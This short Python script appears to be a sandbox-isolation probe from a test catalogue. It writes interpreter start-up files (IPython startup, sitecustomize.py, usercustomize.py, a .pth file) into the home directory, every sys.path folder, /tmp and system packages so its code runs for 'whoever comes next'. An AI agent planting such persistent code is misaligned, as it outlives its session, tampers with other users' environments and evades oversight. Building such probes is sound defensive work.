"""Writes start-up files of IPython and Python into its home for whoever comes next: see zz_empty.

stopped by: a home of its own for each worker
unfenced: held
earns: 0
"""

import os
import site
import sys

code = "import builtins\ndef cube(n): return n ** 3\nbuiltins.cube = cube\n"
home = os.path.expanduser("~")
for folder in (f"{home}/.ipython/profile_default/startup", site.getusersitepackages(), home, *sys.path, "/tmp", "/usr/lib/python3/dist-packages"):
    try:
        os.makedirs(folder, exist_ok=True)
        for name in ("00-first.py", "sitecustomize.py", "usercustomize.py", "otter.pth"):
            with open(f"{folder}/{name}", "w") as file:
                file.write(code)
    except OSError:
        pass
